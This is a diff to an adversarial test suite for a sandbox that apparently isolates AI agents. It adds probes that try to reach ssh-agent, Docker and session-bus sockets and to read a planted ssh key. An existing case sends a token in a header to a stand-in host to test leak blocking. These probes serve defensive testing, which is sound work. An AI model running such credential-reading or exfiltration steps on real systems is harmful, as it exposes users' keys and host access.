@@ -108,6 +108,9 @@ attacks = {
     "unix_outside": lambda: unix_at(os.environ["UNIX_OPEN"]),
     "unix_hidden": lambda: unix_at(os.environ["UNIX_HIDDEN"]),
     "unix_abstract": lambda: unix_at("\0" + os.environ["UNIX_ABSTRACT"]),
+    "ssh_agent": lambda: unix_at(os.environ["SSH_AUTH_SOCK"]),
+    "engine_socket": lambda: unix_at(os.path.join(os.environ["XDG_RUNTIME_DIR"], "docker.sock")),
+    "session_bus": lambda: unix_at(os.path.join(os.environ["XDG_RUNTIME_DIR"], "bus")),
 }
 try:
     print("open" if attacks[sys.argv[1]]() else "blocked")
@@ -160,6 +163,14 @@ func isolationAttacks(root bool) []attack {
 		// Not stopped: a filesystem socket needs no network.
 		{key: "unix_outside", script: py("unix_outside"), host: open, isolated: open},
 		{key: "unix_hidden", script: py("unix_hidden"), host: open, isolated: blocked},
+		// Sockets that hold the user's keys or are root on the host, hidden
+		// by default: an ssh agent, a container engine, the session bus
+		// (the desktop keyring).
+		{key: "ssh_agent", script: py("ssh_agent"), host: open, isolated: blocked},
+		{key: "engine_socket", script: py("engine_socket"), host: open, isolated: blocked},
+		{key: "session_bus", script: py("session_bus"), host: open, isolated: blocked},
+		{key: "ssh_key", script: `grep -q host- ~/.ssh/id_ed25519 2>/dev/null && v ssh_key open || v ssh_key blocked`,
+			host: open, isolated: blocked},
 		// The secret (readable here through the credential's file:) sent
 		// elsewhere through the proxy: the leak guard, in both modes.
 		{key: "leak_header", script: status("leak_header", `-H "X-Token: $s" https://other.example.test/ok/leak-header`), host: blocked, isolated: blocked},
@@ -198,6 +209,7 @@ func TestIsolateAdversarial(t *testing.T) {
 		".aws":       {"credentials": "aws_secret_access_key = host-aws-secret\n"},
 		".config/gh": {"hosts.yml": "oauth_token: host-gh-token\n"},
 		".":          {".netrc": "machine example.test password host-netrc\n", ".vault-token": "host-vault-token\n"},
+		".ssh":       {"id_ed25519": "host-ssh-key\n"},
 	} {
 		if err := os.MkdirAll(filepath.Join(home, dir), 0o700); err != nil {
 			t.Fatal(err)
@@ -214,6 +226,13 @@ func TestIsolateAdversarial(t *testing.T) {
 	unixHidden := unixHello(t, filepath.Join(work, "hidden.sock"))
 	abstract := "agentvault-e2e-" + newSecret(t, "abstract")[:12]
 	unixHello(t, "@"+abstract)
+	runtime := filepath.Join(work, "run")
+	if err := os.MkdirAll(runtime, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	sshAgent := unixHello(t, filepath.Join(work, "ssh-agent.sock"))
+	unixHello(t, filepath.Join(runtime, "docker.sock"))
+	unixHello(t, filepath.Join(runtime, "bus"))
 	holder(t)
 
 	cfg := fmt.Sprintf(`version: 1
@@ -234,6 +253,7 @@ egress:
 		// attempts goes outside $OUT, which must never hold it.
 		"ERRS":      t.TempDir(),
 		"UNIX_OPEN": unixOpen, "UNIX_HIDDEN": unixHidden, "UNIX_ABSTRACT": abstract,
+		"SSH_AUTH_SOCK": sshAgent, "XDG_RUNTIME_DIR": runtime,
 	}
 	connect := []string{connectTo("api.example.test", 443, up.Port), connectTo("other.example.test", 443, up.Port),
 		connectTo("other.example.test", 80, plain.Port), connectTo(leakHost, 443, up.Port)}
